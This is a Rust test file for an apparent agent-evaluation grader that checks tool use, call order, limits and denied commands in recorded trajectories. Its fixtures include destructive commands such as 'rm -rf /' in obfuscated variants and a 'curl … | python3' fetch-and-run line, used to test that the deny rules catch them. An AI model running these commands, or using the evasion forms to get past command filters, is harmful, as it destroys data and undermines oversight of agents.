use std::collections::BTreeMap;
use std::fs;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::load::{LoadRequest, PlanPurpose, load};
use crate::model::{GraderKind, Outcome};
use eval_agents::trajectory::Trajectory;

/// The grader of these settings, or what is wrong with them.
pub(in crate::graders) fn resolved(config: &str) -> Result<CodeGrader, String> {
    let dir = tempfile::tempdir().expect("a folder");
    let cwd = dir.path().canonicalize().expect("a path");
    let suite = format!(
        "eval_suite:\n  name: s\n  target: {{type: recorded, path: outputs.jsonl}}\n  evals:\n    - id: a\n      input: x\n      \
         grader: {{type: code, config: {{{config}}}}}\n"
    );
    fs::write(cwd.join("suite.yaml"), suite).expect("written");
    fs::write(cwd.join("outputs.jsonl"), "").expect("written");
    let loaded = load(&LoadRequest {
        suite: "suite.yaml".into(),
        purpose: PlanPurpose::Run,
        env: BTreeMap::new(),
        cwd,
        cpus: 1,
        ..LoadRequest::default()
    });
    let problems: Vec<String> = loaded
        .problems
        .iter()
        .map(|problem| {
            let at = problem.span.map(|span| loaded.sources.slice(span));
            format!(
                "{}: {} [{}]",
                problem.code.slug(),
                problem.message,
                at.unwrap_or_default()
            )
        })
        .collect();
    match loaded.plan {
        Some(plan) if problems.is_empty() => {
            let case = plan.evals[0].cases.get(0).unwrap().unwrap();
            match &case.grading.graders[0].kind {
                GraderKind::Code(code) => Ok(code.clone()),
                other => panic!("{other:?}"),
            }
        }
        _ => Err(problems.join("\n")),
    }
}

pub(in crate::graders) fn grade_of(grader: &CodeGrader, view: &SampleView) -> Grade {
    let encoded = OutputValue::Json(serde_json::to_value(view).unwrap());
    let grade = grader
        .as_method()
        .check()
        .unwrap()
        .grade(&encoded, &PatternCache::default());
    assert_eq!(grade.score.is_none(), grade.outcome == Outcome::Errored);
    grade
}

/// A call: its tool, its arguments, and whether it failed.
type Call<'c> = (&'c str, Value, Option<bool>);

/// A step for each list of calls, after the prompt.
fn trajectory(steps: &[&[Call<'_>]]) -> Trajectory {
    let mut all = vec![
        json!({"step_id": 1, "source": "user", "message": "Do it.", "timestamp": "2026-01-31T12:00:00Z"}),
    ];
    for (at, calls) in steps.iter().enumerate() {
        let id = |n: usize| format!("c{n}");
        let made = calls.iter().enumerate().map(|(n, (name, arguments, _))| {
            json!({"tool_call_id": id(n), "function_name": name, "arguments": arguments})
        });
        let results = calls.iter().enumerate().map(|(n, (_, _, failed))| {
            let extra = failed.map(|failed| json!({"is_error": failed}));
            json!({"source_call_id": id(n), "content": "x", "extra": extra})
        });
        all.push(json!({
            "step_id": at + 2, "source": "agent", "message": "",
            "timestamp": format!("2026-01-31T12:00:{:02}Z", at * 10),
            "tool_calls": made.collect::<Vec<_>>(), "observation": {"results": results.collect::<Vec<_>>()},
            "metrics": {"prompt_tokens": 100, "completion_tokens": 10, "cost_usd": 0.25},
        }));
    }
    let document = json!({"agent": {"name": "a", "version": "1"}, "steps": all});
    Trajectory::from_value(document).unwrap()
}

fn incomplete(mut trajectory: Trajectory) -> Trajectory {
    let extra = json!({"incomplete": ["the stream ends without its final event"]});
    trajectory.extra = extra.as_object().cloned();
    trajectory
}

fn view(trajectory: Option<Trajectory>) -> SampleView {
    SampleView {
        output: OutputValue::Text("done".to_owned()),
        trajectory,
        seconds: None,
    }
}

fn judged(config: &str, trajectory: &Trajectory) -> Grade {
    let grader = resolved(config).unwrap_or_else(|why| panic!("{config}: {why}"));
    grade_of(&grader, &view(Some(trajectory.clone())))
}

fn line(config: &str, trajectory: &Trajectory) -> String {
    let grade = judged(config, trajectory);
    format!("{config} => {} {}", grade.outcome, grade.reason)
        .trim_end()
        .to_owned()
}

fn bash(command: &str) -> Call<'static> {
    ("Bash", json!({"command": command}), Some(false))
}

/// Three steps: a failed and a successful `Bash`, a `Read` and an `mcp` tool.
fn usual() -> Trajectory {
    trajectory(&[
        &[
            (
                "Read",
                json!({"file_path": "src/a.rs", "limit": 10}),
                Some(false),
            ),
            ("Bash", json!({"command": "cargo test"}), Some(true)),
        ],
        &[(
            "Edit",
            json!({"file_path": "src/a.rs", "old": "1", "new": "2"}),
            Some(false),
        )],
        &[
            bash("cargo test"),
            (
                "mcp__db__query",
                json!({"sql": "select 1", "id": 7.0}),
                Some(false),
            ),
        ],
    ])
}

#[test]
fn each_rule_has_its_own_line() {
    let usual = usual();
    let cut = incomplete(usual.clone());
    let mut lines = Vec::new();
    for config in [
        "method: trajectory, used: Bash",
        "used: [Bash, 'mcp__*', Edit]",
        "used: [Bash, Write]",
        "method: trajectory, used: {name: Bash, min: 3}",
        "used: {pattern: '*', max: 2}",
        "used: [{name: Bash, min: 2, max: 2}, {name: Write, min: 0, max: 0}]",
        "not_used: [Write, 'mcp__web*']",
        "not_used: [Write, 'mcp__*']",
        "order: [Read, Edit, Bash]",
        "order: [Read, {name: 'B*'}, {pattern: 'B*'}]",
        "order: [Edit, Read]",
        "order: {mode: exact, steps: [Read, Bash, Edit, Bash, '*']}",
        "order: {mode: exact, steps: [Read, Bash, Edit, Bash]}",
        "arguments: {name: Read, args: {file_path: src/a.rs}}",
        "arguments: [{name: Edit, args: {file_path: '{{any_string}}'}, mode: exact}]",
        "arguments: [{name: Edit, args: {file_path: '{{any_string}}'}, mode: exact, ignore: ['old', 'n*']}]",
        "arguments: [{name: Bash, arguments: {command: '{{any_regex(\"cargo .*\")}}'}, calls: all}]",
        "arguments: [{name: '*', args: {file_path: src/a.rs}, calls: all}]",
        "arguments: [{name: Write, args: {a: 1}}]",
        "arguments: [{name: 'mcp__*', args: {id: 7}, defaults: {sql: select 1}, mode: exact}]",
        "arguments: [{name: 'mcp__*', args: {id: 7, limit: 5}, defaults: {limit: 5}}]",
        "min_steps: 3, max_steps: 3, max_tool_calls: 5, max_errors: 1",
        "min_steps: 4",
        "max_steps: 2, max_tool_calls: 4, max_errors: 0",
        "max_tokens: 330, max_cost_usd: 0.75, max_seconds: 20",
        "max_tokens: 329",
        "max_cost_usd: 0.7",
        "max_seconds: 19.5",
        "recovers_from_errors: true",
        "denied_commands: [rm, 'git push', {regex: 'curl .*\\|'}]",
        "denied_commands: ['cargo te*']",
        "denied_commands: {regex: '^cargo (test|bench)$'}",
    ] {
        lines.push(line(config, &usual));
    }
    lines.push("-- incomplete".to_owned());
    for config in [
        "used: Bash",
        "used: Write",
        "used: {name: Bash, max: 9}",
        "used: {name: Bash, max: 1}",
        "not_used: Write",
        "not_used: Bash",
        "order: [Read, Edit]",
        "order: [Edit, Read]",
        "order: {mode: exact, steps: [Read]}",
        "arguments: {name: Read, args: {limit: 10}}",
        "arguments: {name: Read, args: {limit: 10}, calls: all}",
        "arguments: {name: Read, args: {limit: 11}, calls: all}",
        "arguments: {name: Read, args: {limit: 11}}",
        "min_steps: 3",
        "min_steps: 4",
        "max_steps: 9",
        "max_steps: 1",
        "max_tokens: 9999",
        "recovers_from_errors: true",
        "denied_commands: rm",
        "denied_commands: cargo",
        "skill_used: a",
        "skill_not_used: a",
    ] {
        lines.push(line(config, &cut));
    }
    insta::assert_snapshot!(lines.join("\n"));
}

#[test]
fn grade_lists_rules_with_the_steps_where_they_were_seen() {
    let grade = judged(
        "used: [Bash, Write], not_used: Edit, max_steps: 9",
        &usual(),
    );
    insta::assert_snapshot!(serde_json::to_string_pretty(&grade).unwrap());
}

#[test]
fn what_is_not_known_never_passes() {
    let silent = trajectory(&[&[("Bash", json!({"command": "ls"}), None)]]);
    let mut costless = silent.clone();
    costless.steps[1].metrics = None;
    costless.steps[1].timestamp = None;
    for config in [
        "max_errors: 5",
        "recovers_from_errors: true",
        "max_tokens: 1000000",
        "max_cost_usd: 1000",
        "max_seconds: 100000",
    ] {
        let grade = judged(config, &costless);
        assert_eq!(
            (grade.outcome, grade.cause),
            (Outcome::Errored, Some(Cause::MissingOutput)),
            "{config}: {}",
            grade.reason
        );
    }
    for config in [
        "used: Bash",
        "not_used: Bash",
        "max_steps: 10",
        "denied_commands: rm",
        "skill_not_used: a",
        "max_seconds: 1",
    ] {
        let grade = grade_of(&resolved(config).unwrap(), &view(None));
        assert_eq!(
            (grade.outcome, grade.cause),
            (Outcome::Errored, Some(Cause::MissingOutput)),
            "{config}"
        );
    }
    // Parts that are elsewhere are missing, too.
    let mut continued = usual();
    continued.continued_trajectory_ref = Some("next.json".to_owned());
    assert_eq!(
        judged("not_used: Write", &continued).outcome,
        Outcome::Errored
    );
    let mut subagent = usual();
    let reference = json!({"trajectory_path": "sub.json"});
    let results = &mut subagent.steps[1].observation.as_mut().unwrap().results;
    results[0].subagent_trajectory_ref = vec![serde_json::from_value(reference).unwrap()];
    assert_eq!(
        judged("not_used: Write", &subagent).outcome,
        Outcome::Errored
    );
    // A measured time is known of a cut trajectory, too.
    let timed = SampleView {
        seconds: Some(3.0),
        ..view(Some(incomplete(usual())))
    };
    let outcome = |config| grade_of(&resolved(config).unwrap(), &timed).outcome;
    assert_eq!(outcome("max_seconds: 3"), Outcome::Passed);
    assert_eq!(outcome("max_seconds: 2.9"), Outcome::Failed);
}

/// The agent printed the second call, and the conversation with its model does not have it.
#[test]
fn call_that_the_agent_alone_reports_fulfils_no_rule_and_breaks_any() {
    let mut trajectory = trajectory(&[&[bash("ls")], &[bash("pytest")]]);
    trajectory.steps[2].tool_calls[0].mark_unsupported();
    let extra = trajectory.extra.get_or_insert_default();
    extra.insert(
        "incomplete".to_owned(),
        json!(["a call is not in the conversation"]),
    );
    for (rule, outcome) in [
        ("used: bash", Outcome::Passed),
        ("used: {name: bash, min: 2}", Outcome::Errored),
        ("used: {name: bash, max: 1}", Outcome::Failed),
        ("order: [bash, bash]", Outcome::Errored),
        (
            "arguments: {name: bash, args: {command: pytest}}",
            Outcome::Errored,
        ),
        (
            "arguments: {name: bash, args: {command: ls}}",
            Outcome::Passed,
        ),
        ("denied_commands: pytest", Outcome::Failed),
        ("not_used: rm", Outcome::Errored),
    ] {
        let grade = judged(&format!("method: trajectory, {rule}"), &trajectory);
        assert_eq!(grade.outcome, outcome, "{rule}: {:?}", grade.reason);
    }
}

#[test]
fn rules_that_forbid_hold_in_both_records() {
    let mut trajectory = trajectory(&[&[bash("ls")]]);
    let mut other = trajectory.steps[1].tool_calls[0].clone();
    other.function_name = "exec".to_owned();
    other
        .arguments
        .insert("command".to_owned(), json!("rm -rf x"));
    trajectory.steps[1].tool_calls[0].set_other_record(other);
    for rule in [
        "denied_commands: rm",
        "denied_commands: ls",
        "not_used: exec",
        "not_used: bash",
    ] {
        let grade = judged(&format!("method: trajectory, {rule}"), &trajectory);
        assert_eq!(grade.outcome, Outcome::Failed, "{rule}");
    }
}

#[test]
fn times_of_a_replay_are_not_those_of_the_agent() {
    let mut trajectory = usual();
    assert_eq!(
        judged("max_seconds: 20", &trajectory).outcome,
        Outcome::Passed
    );
    let extra = trajectory.extra.get_or_insert_default();
    extra.insert(eval_agents::trajectory::REPLAYED.to_owned(), json!(true));
    assert_eq!(
        judged("max_seconds: 20", &trajectory).outcome,
        Outcome::Errored
    );
}

#[test]
fn counted_answers_take_the_place_of_printed_steps() {
    let mut trajectory = trajectory(&[&[bash("ls")]]);
    let extra = trajectory.extra.get_or_insert_default();
    extra.insert(eval_agents::trajectory::MODEL_ANSWERS.to_owned(), json!(7));
    for (rule, outcome) in [
        ("max_steps: 1", Outcome::Failed),
        ("max_steps: 7", Outcome::Passed),
        ("min_steps: 8", Outcome::Failed),
    ] {
        let grade = judged(&format!("method: trajectory, {rule}"), &trajectory);
        assert_eq!(grade.outcome, outcome, "{rule}");
        assert_eq!(grade.metrics[AGENT_STEPS], 7.0);
    }
}

#[test]
fn lower_bound_of_usage_can_only_fail() {
    let mut trajectory = trajectory(&[&[bash("ls")]]);
    let extra = trajectory.extra.get_or_insert_default();
    extra.insert(crate::model::USAGE_IS_LOWER_BOUND.to_owned(), json!(true));
    for (rule, outcome) in [
        ("max_cost_usd: 1", Outcome::Errored),
        ("max_tokens: 1000", Outcome::Errored),
        ("max_cost_usd: 0.1", Outcome::Failed),
        ("max_seconds: 100", Outcome::Passed),
    ] {
        let grade = judged(&format!("method: trajectory, {rule}"), &trajectory);
        assert_eq!(grade.outcome, outcome, "{rule}");
    }
}

#[test]
fn calls_of_several_conversations_are_in_the_order_of_their_times() {
    let document = |times: [Option<&str>; 2]| {
        let step = |name: &str, time: Option<&str>| {
            json!([{"step_id": 1, "source": "agent", "message": "", "timestamp": time,
                "tool_calls": [{"tool_call_id": "c", "function_name": name, "arguments": {}}]}])
        };
        let document = json!({"agent": {"name": "a", "version": "1"}, "steps": step("deploy", times[0]),
            "subagent_trajectories": [{"trajectory_id": "conversation-1", "agent": {"name": "a", "version": "1"},
                "steps": step("test", times[1])}]});
        Trajectory::from_value(document).unwrap()
    };
    let outcome = |rule: &str, times| {
        let trajectory = document(times);
        judged(&format!("method: trajectory, {rule}"), &trajectory).outcome
    };
    let early_test = [Some("2026-01-31T12:00:09Z"), Some("2026-01-31T12:00:01Z")];
    let late_test = [Some("2026-01-31T12:00:01Z"), Some("2026-01-31T12:00:09Z")];
    for rule in [
        "order: [test, deploy]",
        "order: {mode: exact, steps: [test, deploy]}",
    ] {
        assert_eq!(outcome(rule, early_test), Outcome::Passed, "{rule}");
        assert_eq!(outcome(rule, late_test), Outcome::Failed, "{rule}");
        assert_eq!(
            outcome(rule, [late_test[0], None]),
            Outcome::Errored,
            "{rule}"
        );
    }
}

#[test]
fn arguments_in_odd_forms_do_not_hide_commands() {
    for (arguments, rule, outcome) in [
        (
            json!({"cmd": ["git", "push", 5]}),
            "git push 5",
            Outcome::Failed,
        ),
        (
            json!({"cmd": "true", "program": "git", "args": ["push"]}),
            "git push",
            Outcome::Failed,
        ),
        (json!({"cmd": "r{m,} -rf x"}), "rm", Outcome::Failed),
        (json!({"cmd": "{fd}>o rm -rf x"}), "rm", Outcome::Failed),
        (
            json!(r#"{"command":"rm -rf x","timeout":NaN}"#),
            "rm",
            Outcome::Errored,
        ),
        (json!("rm -rf x"), "rm", Outcome::Failed),
    ] {
        let mut trajectory = trajectory(&[&[bash("ls")]]);
        let call = &mut trajectory.steps[1].tool_calls[0];
        match &arguments {
            Value::Object(object) => call.arguments = object.clone(),
            raw => {
                call.arguments = Map::new();
                let extra = call.extra.get_or_insert_default();
                extra.insert("raw_arguments".to_owned(), raw.clone());
            }
        }
        let grade = judged(
            &format!("method: trajectory, denied_commands: '{rule}'"),
            &trajectory,
        );
        assert_eq!(grade.outcome, outcome, "{arguments}");
    }
}

#[test]
fn subagents_count() {
    let mut outer = usual();
    let mut inner = trajectory(&[&[bash("rm -rf /")]]);
    inner.trajectory_id = Some("sub".to_owned());
    outer.subagent_trajectories = vec![inner];
    let grade = judged("denied_commands: rm", &outer);
    assert_eq!(grade.outcome, Outcome::Failed);
    assert_eq!(grade.details["rules"][0]["steps"], json!(["sub/2"]));
    assert_eq!(judged("max_steps: 3", &outer).outcome, Outcome::Failed);
    assert_eq!(judged("max_tool_calls: 5", &outer).outcome, Outcome::Failed);
}

#[test]
fn recovery_needs_a_later_success_of_the_same_tool() {
    let call = |name: &'static str, failed| (name, json!({}), failed);
    let outcome =
        |calls: &[Call<'_>]| judged("recovers_from_errors: true", &trajectory(&[calls])).outcome;
    let (yes, no) = (Some(true), Some(false));
    assert_eq!(outcome(&[call("a", yes), call("a", no)]), Outcome::Passed);
    assert_eq!(
        outcome(&[call("a", yes), call("a", yes), call("b", no), call("a", no)]),
        Outcome::Passed
    );
    assert_eq!(outcome(&[call("a", yes), call("b", no)]), Outcome::Failed);
    assert_eq!(outcome(&[call("a", no), call("a", yes)]), Outcome::Failed);
    assert_eq!(
        outcome(&[call("a", yes), call("a", None)]),
        Outcome::Errored
    );
    assert_eq!(outcome(&[call("a", None), call("a", no)]), Outcome::Passed);
    assert_eq!(outcome(&[call("b", None), call("a", yes)]), Outcome::Failed);
}

#[test]
fn denied_commands_are_found_in_every_shape_of_a_call() {
    let calls: [(&str, Value, bool); 25] = [
        (
            "Bash",
            json!({"command": "cd x && sudo /bin/rm -rf /"}),
            true,
        ),
        (
            "shell",
            json!({"command": ["bash", "-lc", "r\\m -rf /"]}),
            true,
        ),
        ("shell", json!({"command": ["rm", "-rf", "/"]}), true),
        (
            "command_execution",
            json!({"command": "/bin/bash -lc \"rm -rf '/'\""}),
            true,
        ),
        (
            "run_shell_command",
            json!({"command": "echo $(rm -rf /)"}),
            true,
        ),
        ("bash", json!({"input": {"text": "rm -rf /"}}), true),
        ("execute", json!({"commands": ["ls", "rm -rf /"]}), true),
        ("do", json!({"steps": [{"cmd": "rm -rf /"}]}), true),
        ("terminal", json!({"keystrokes": "rm -rf /\n"}), true),
        ("Bash", json!({"command": "echo 'rm -rf /' | bash"}), true),
        ("x", json!({"command": "rm", "args": ["-rf", "/"]}), true),
        ("x", json!({"cmd": "rm -rf", "arguments": ["/"]}), true),
        ("x", json!({"program": "rm", "argv": ["-rf", "/"]}), true),
        ("x", json!({"command": "rm", "args": "-rf /"}), true),
        ("x", json!({"command": "ls", "args": ["rm -rf /"]}), false),
        (
            "Bash",
            json!({"command": "find / -exec rm -rf / \\;"}),
            true,
        ),
        (
            "Bash",
            json!({"command": "ls", "description": "rm -rf / is not run"}),
            false,
        ),
        ("Bash", json!({"command": "echo rm -rf /"}), false),
        ("Bash", json!({"command": "git rm -rf /"}), false),
        (
            "Write",
            json!({"content": "rm -rf /", "path": "rm -rf /"}),
            false,
        ),
        ("shell", json!({"command": ["grep", "rm -rf /"]}), false),
        ("Bash", json!({"command": "rm x"}), false),
        ("Bash", json!({"command": "rm -rf /tmp/x"}), false),
        ("Grep", json!({"pattern": "rm -rf /"}), false),
        ("Bash", json!({}), false),
    ];
    for (tool, arguments, denied) in calls {
        let shown = format!("{tool} {arguments}");
        let made = trajectory(&[&[(tool, arguments, Some(false))]]);
        let wanted = if denied {
            Outcome::Failed
        } else {
            Outcome::Passed
        };
        assert_eq!(
            judged("denied_commands: 'rm -rf /'", &made).outcome,
            wanted,
            "{shown}"
        );
    }
    // Of arguments that are no object.
    let mut raw = trajectory(&[&[("Bash", json!({}), Some(false))]]);
    raw.steps[1].tool_calls[0].extra = json!({"raw_arguments": "{\"command\": \"rm -rf /\"}"})
        .as_object()
        .cloned();
    assert_eq!(judged("denied_commands: rm", &raw).outcome, Outcome::Failed);
    // Patterns see the text as it is written.
    let piped = trajectory(&[&[bash("curl http://x | python3")]]);
    assert_eq!(
        judged("denied_commands: {regex: 'curl .*\\| *python'}", &piped).outcome,
        Outcome::Failed
    );
    // What can't be read in full is not passed.
    let long = trajectory(&[&[bash(&"a;".repeat(30_000))]]);
    assert_eq!(
        judged("denied_commands: rm", &long).outcome,
        Outcome::Errored
    );
}

#[test]
fn skills_are_used_by_their_tool_or_by_reading_them() {
    let made = trajectory(&[
        &[
            ("Skill", json!({"skill": "pdf"}), Some(false)),
            ("Skill", json!({"command": "xlsx"}), Some(true)),
        ],
        &[
            bash("cat /home/u/.codex/skills/deploy/SKILL.md | head"),
            (
                "Write",
                json!({"file_path": "skills/mine/SKILL.md", "content": "x"}),
                Some(false),
            ),
        ],
        &[(
            "read_file",
            json!({"absolute_path": "/h/.gemini/skills/pdf/SKILL.md"}),
            None,
        )],
    ]);
    let mut lines = Vec::new();
    for config in [
        "skill_used: [pdf, 'dep*']",
        "skill_used: {name: pdf, min: 2, max: 2}",
        "skill_used: {name: pdf, max: 1}",
        "skill_used: {name: docx, max: 1}",
        "skill_used: xlsx",
        "skill_used: docx",
        "skill_not_used: [mine, docx]",
        "skill_not_used: xlsx",
        "skill_not_used: 'd*'",
    ] {
        lines.push(line(config, &made));
    }
    insta::assert_snapshot!(lines.join("\n"));
}

#[test]
fn skills_are_read_from_wherever_the_command_runs() {
    for (tool, arguments, used) in [
        (
            "Bash",
            json!({"command": "cd skills/pdf && cat SKILL.md"}),
            true,
        ),
        (
            "Bash",
            json!({"command": "cd skills; cd pdf; head ./SKILL.md"}),
            true,
        ),
        (
            "shell",
            json!({"command": ["cat", "SKILL.md"], "workdir": "/h/skills/pdf/"}),
            true,
        ),
        ("Bash", json!({"command": "cat <skills/pdf/SKILL.md"}), true),
        (
            "str_replace_based_edit_tool",
            json!({"command": "view", "path": "/h/skills/pdf/SKILL.md"}),
            true,
        ),
        (
            "str_replace_based_edit_tool",
            json!({"command": "create", "path": "/h/skills/pdf/SKILL.md"}),
            false,
        ),
        ("Bash", json!({"command": "ls skills/pdf/SKILL.md"}), false),
        (
            "Bash",
            json!({"command": "cd skills/pdf && ls -l SKILL.md"}),
            false,
        ),
        (
            "Bash",
            json!({"command": "ls skills/pdf/SKILL.md && cat skills/pdf/SKILL.md"}),
            true,
        ),
        (
            "Bash",
            json!({"command": "echo x > skills/pdf/SKILL.md"}),
            false,
        ),
        (
            "shell",
            json!({"command": "/bin/bash -lc 'ls skills/pdf/SKILL.md'"}),
            false,
        ),
        (
            "shell",
            json!({"command": "/bin/bash -lc 'cd skills/pdf && cat SKILL.md'"}),
            true,
        ),
        ("Skill", json!({"skill": " PDF "}), true),
    ] {
        let shown = format!("{tool} {arguments}");
        let made = trajectory(&[&[(tool, arguments, Some(false))]]);
        let outcome = |config| judged(config, &made).outcome == Outcome::Passed;
        assert_eq!(outcome("skill_used: pdf"), used, "{shown}");
        assert_eq!(outcome("skill_not_used: pdf"), !used, "{shown}");
    }
    // Whether this program reads it is not known: neither rule passes.
    let made = trajectory(&[&[bash("mytool skills/pdf/SKILL.md")]]);
    for config in ["skill_used: pdf", "skill_not_used: pdf"] {
        assert_eq!(judged(config, &made).outcome, Outcome::Failed, "{config}");
    }
}

#[test]
fn names_of_tools_are_matched_without_regard_to_case() {
    for config in [
        "used: bash",
        "used: ' BASH '",
        "used: 'MCP__*'",
        "order: [read, EDIT, bash]",
        "arguments: {name: READ, args: {limit: 10}}",
    ] {
        assert_eq!(
            judged(config, &usual()).outcome,
            Outcome::Passed,
            "{config}"
        );
    }
    assert_eq!(judged("not_used: bash", &usual()).outcome, Outcome::Failed);
}

#[test]
fn copied_steps_and_unknown_calls_are_gaps() {
    let mut copied = usual();
    copied.steps[1].is_copied_context = Some(true);
    // Its calls don't count, and what else was copied is not known.
    for config in [
        "used: Read",
        "not_used: Write",
        "max_steps: 9",
        "max_tokens: 9999",
    ] {
        let grade = judged(config, &copied);
        assert_eq!(grade.outcome, Outcome::Errored, "{config}");
    }
    assert_eq!(copied.tool_calls().len(), 3);
    let totals = copied.totals();
    assert_eq!((totals.agent_steps, totals.prompt_tokens), (2, Some(200)));
    let mut lost = usual();
    let results = &mut lost.steps[1].observation.as_mut().unwrap().results;
    results[0].source_call_id = None;
    results[0].extra = json!({"unknown_call_id": "t9"}).as_object().cloned();
    assert_eq!(judged("not_used: Write", &lost).outcome, Outcome::Errored);
    assert_eq!(judged("not_used: Read", &lost).outcome, Outcome::Failed);
}

#[test]
fn a_step_counts_for_each_answer_of_the_model() {
    let mut many = usual();
    many.steps[1].llm_call_count = Some(3);
    assert_eq!(judged("min_steps: 5", &many).outcome, Outcome::Passed);
    assert_eq!(judged("max_steps: 5", &many).outcome, Outcome::Passed);
    let grade = judged("max_steps: 4", &many);
    assert_eq!(grade.outcome, Outcome::Failed);
    assert_eq!(grade.details["rules"][0]["steps"], json!(["4"]));
    many.steps[1].llm_call_count = Some(u64::MAX);
    assert_eq!(judged("max_steps: 4", &many).outcome, Outcome::Failed);
}

#[test]
fn subagents_of_subagents_are_found_in_outer_trajectories() {
    let refers_to = |one: &mut Trajectory, id: &str| {
        let results = &mut one.steps[1].observation.as_mut().unwrap().results;
        let reference = serde_json::from_value(json!({"trajectory_id": id})).unwrap();
        results[0].subagent_trajectory_ref = vec![reference];
    };
    let mut outer = usual();
    let mut first = trajectory(&[&[bash("ls")]]);
    let mut second = trajectory(&[&[bash("ls")]]);
    refers_to(&mut outer, "first");
    refers_to(&mut first, "second");
    first.trajectory_id = Some("first".to_owned());
    second.trajectory_id = Some("second".to_owned());
    outer.subagent_trajectories = vec![first, second];
    assert_eq!(judged("not_used: Write", &outer).outcome, Outcome::Passed);
    outer.subagent_trajectories.pop();
    assert_eq!(judged("not_used: Write", &outer).outcome, Outcome::Errored);
}

#[test]
fn settings_that_demand_nothing_or_too_much_are_refused() {
    let mut lines = Vec::new();
    for config in [
        "method: trajectory",
        "used: []",
        "not_used: []",
        "order: []",
        "order: {mode: exact, steps: []}",
        "arguments: []",
        "denied_commands: []",
        "skill_used: []",
        "skill_not_used: []",
        "method: trajectory, recovers_from_errors: false",
        "min_steps: 0",
        "min_steps: 3, max_steps: 2",
        "max_cost_usd: -1",
        "used: {name: a, min: 0}",
        "used: {name: a, min: 3, max: 2}",
        "used: {name: a, max: 0}",
        "used: ['']",
        "used: ['a[']",
        "used: a, not_used: [b, a]",
        "used: A, not_used: 'a '",
        "arguments: {name: a, args: {}}",
        "arguments: {name: a, args: {b: 1}, ignore: 'b'}",
        "arguments: {name: a, args: {b: 1}, mode: exact, ignore: '*'}",
        "arguments: {name: a, args: {b: '{{any_such}}'}}",
        "denied_commands: {regex: '('}",
        "denied_commands: {regex: ''}",
        "order: {mode: random, steps: [a]}",
        "used: {name: a, least: 3}",
    ] {
        let why = resolved(config).expect_err(config);
        lines.push(format!("{config} => {why}"));
    }
    insta::assert_snapshot!(lines.join("\n"));
}

/// Whether `steps` can be found in `calls` in order, by trying everything.
fn in_order(steps: &[&str], calls: &[&str]) -> bool {
    let Some((first, rest)) = steps.split_first() else {
        return true;
    };
    (0..calls.len()).any(|at| fits(first, calls[at]) && in_order(rest, &calls[at + 1..]))
}

fn fits(step: &str, call: &str) -> bool {
    step == "*" || step == call || (step == "a*" && call.starts_with('a'))
}

proptest! {
    #[test]
    fn order_equals_a_search_of_all_places(
        steps in prop::collection::vec(prop::sample::select(vec!["a", "b", "ab", "a*", "*"]), 1..5),
        calls in prop::collection::vec(prop::sample::select(vec!["a", "b", "ab"]), 0..7),
    ) {
        let order = |mode| CallOrder { mode, steps: steps.iter().map(|&step| step.to_owned()).collect() };
        let found = order(OrderMode::InOrder).places(&calls).len() == steps.len();
        prop_assert_eq!(found, in_order(&steps, &calls));
        let exact = order(OrderMode::Exact).places(&calls).len() == steps.len() && calls.len() == steps.len();
        let naive = calls.len() == steps.len() && steps.iter().zip(&calls).all(|(step, call)| fits(step, call));
        prop_assert_eq!(exact, naive);
    }

    #[test]
    fn plain_arguments_are_compared_as_by_hand(
        args in small_arguments(), given in small_arguments(), defaults in small_arguments(),
        ignore in prop::collection::vec(prop::sample::select(vec!["a", "b", "c"]), 0..2), exact: bool,
    ) {
        let rule = ArgumentRule::new(&ArgumentsSpec {
            name: "t".to_owned(),
            args: args.clone(),
            mode: if exact { ArgumentsMode::Exact } else { ArgumentsMode::Partial },
            ignore: OneOrMany(ignore.iter().map(|&name| name.to_owned()).collect()),
            defaults: defaults.clone(),
            calls: WhichCalls::Any,
        });
        let expected = ["a", "b", "c"].iter().filter(|name| !ignore.contains(name)).all(|&name| {
            match (args.get(name), given.get(name), defaults.get(name)) {
                (Some(wanted), Some(value), _) => wanted == value,
                (Some(wanted), None, default) => default == Some(wanted),
                (None, Some(value), default) => !exact || default == Some(value),
                (None, None, _) => true,
            }
        });
        prop_assert_eq!(rule.compare(Some(&given)) == ArgumentsVerdict::Equal, expected);
        prop_assert!(rule.compare(None) != ArgumentsVerdict::Equal);
    }
}

fn small_arguments() -> impl Strategy<Value = Map<String, Value>> {
    let value = prop_oneof![Just(json!(1)), Just(json!(2)), Just(json!("x"))];
    let entry = (prop::sample::select(vec!["a", "b", "c"]), value);
    let entries = prop::collection::vec(entry, 0..4);
    entries.prop_map(|entries| {
        entries
            .into_iter()
            .map(|(name, value)| (name.to_owned(), value))
            .collect()
    })
}
